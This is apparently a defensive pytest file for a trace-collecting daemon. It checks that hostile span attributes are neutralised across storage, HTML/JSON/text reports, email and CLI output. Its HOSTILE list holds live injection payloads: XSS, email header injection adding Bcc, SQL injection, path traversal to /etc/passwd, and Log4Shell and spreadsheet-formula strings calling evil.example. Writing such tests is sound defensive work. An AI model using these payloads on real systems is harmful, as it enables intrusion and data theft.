"""Hostile names, URLs and statements go through all of it: receiver, store, report, mail, commands."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from daemon import comparison
from daemon.cli import app
from daemon.deliveries import StoreOutbox
from daemon.notify.delivery import deliver_due
from daemon.report.html import render_html
from daemon.report.json import render_json
from daemon.report.text import render_text
from tests.support import pipeline
from tests.support.mail_server import MailServer
from tests.support.pipeline import Installation, Shop
from tests.support.traces import export, proto_span, resource_spans

HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07clear",
    "\u202egnp.exe\u2066",
    "nul\x00byte",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    '"><svg/onload=alert(3)>{{7*7}}{% raw %}',
    "x\r\nBcc: everyone@example.com\r\n\r\nbody",
    '=HYPERLINK("http://evil.example","x")',
    "../../../../etc/passwd",
    "a|b?c#d%00",
    "'; DROP TABLE fact; --",
    "line\u2028separator\u0085next",
    "${jndi:ldap://evil.example/x}%s%n",
    "n" * 600_000,
)
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]")


@pytest.fixture
def home(deployed: str, mails: MailServer, tmp_path: Path) -> Iterator[Installation]:
    mail = pipeline.mail_to(mails.port)
    with pipeline.installed(tmp_path, deployed, mail=mail) as home:
        yield home


def hostile_messages() -> Iterator[tuple[bytes, str]]:
    """Bodies and their types: each text in each place where a name, a URL or a statement stands."""
    for number, text in enumerate(HOSTILE):
        call = {
            "db.system.name": "postgresql",
            "server.address": text,
            "db.namespace": text,
            "db.query.text": f'SELECT email, "{text}" FROM "{text}" WHERE a = \'{text}\'',
        }
        others = (
            ("client", call),
            ("client", {"url.full": f"https://{text}/{text}", "http.request.method": text}),
            ("producer", {"messaging.system": text, "messaging.destination.name": text}),
            ("client", {"db.system": text, "db.collection.name": text}),
        )
        route = {"http.request.method": "GET", "http.route": text}
        trace = f"t{number}"
        spans = [proto_span("a", "server", text, trace=trace, attributes=route)]
        spans += [
            proto_span(f"b{one}", kind, text, "a", trace=trace, attributes=attributes)
            for one, (kind, attributes) in enumerate(others)
        ]
        for environment in ("prod", text):
            resource = {
                "deployment.environment.name": environment,
                "service.namespace": text,
                "k8s.cluster.name": text,
            }
            yield export(resource_spans(f"{text}{number}", spans, resource)), "application/x-protobuf"
    lone = '{"key":"service.name","value":{"stringValue":"\\ud800"}}'
    body = '{"resourceSpans":[{"resource":{"attributes":[' + lone + "]}}]}"
    yield body.encode(), "application/json"


class _Page(HTMLParser):
    """What a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.dangerous: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "img", "svg", "iframe", "object", "link"}:
            self.dangerous.append(tag)
        self.dangerous += [name for name, _ in attrs if name.startswith("on")]


def test_hostile_text_steers_nothing_on_its_way_through(
    home: Installation, shop: Shop, mails: MailServer
) -> None:
    shop.plain_day()
    home.cycle()
    for body, content in hostile_messages():
        answer = httpx.post(home.traces_url, content=body, headers={"content-type": content}, timeout=60)
        assert answer.status_code in ((200,) if content.endswith("protobuf") else (200, 400))
    home.clock.advance(hours=1)
    assert home.cycle().state == "complete"
    deliver_due(
        StoreOutbox(home.database, home.settings, home.clock),
        home.settings.mail,
        home.clock(),
        installation="test",
    )

    out: dict[str, str] = {}
    with home.database.reading() as connection:
        told = comparison.compare(connection, home.settings, 1, 2, home.clock())
    out["text"], out["html"], out["json"] = render_text(told), render_html(told), render_json(told)
    state = home.settings.driftline.state_directory
    asked = (
        "diff", "paths", "paths --json", "inventory", "inventory --json", "coverage", "status", "services", "flows",
        "report --format html", "report --format json",
    )  # fmt: skip
    for words in asked:
        settings = ("--set", f"driftline.state_directory={state}", "--set", "mail.host=")
        result = CliRunner().invoke(app, [*settings, *words.split()], catch_exceptions=False)
        assert result.exit_code == 0, (words, result.output)
        out[words] = result.stdout
    for number, mail in enumerate(mails.received):
        parsed = message_from_bytes(mail.content, policy=default)
        # The set of headers is ours alone, and none of it has a word of theirs.
        assert "bcc" not in {name.lower() for name in parsed}
        assert not STEERING.search(str(parsed["subject"]))
        for part in parsed.walk():
            if part.get_content_maintype() == "text":
                kind = part.get_content_subtype()
                out[f"mail {number} {kind}"] = part.get_content().replace("\r\n", "\n")
        assert len(mail.content) < 400_000

    assert "mail 0 plain" in out
    for place, text in out.items():
        assert not STEERING.search(text), (place, STEERING.search(text))
        assert "n" * 600 not in text, place
        if place.endswith("html"):
            page = _Page()
            page.feed(text)
            assert page.dangerous == [], place
        if place.endswith("json"):
            json.loads(text)
    # They are there, and visible: a test that lost them would prove nothing.
    assert "&lt;script&gt;" in out["html"]
    assert "etc" in out["json"]
    # No file got a name of theirs.
    assert not [file for file in state.rglob("*") if "passwd" in file.name or "script" in file.name]
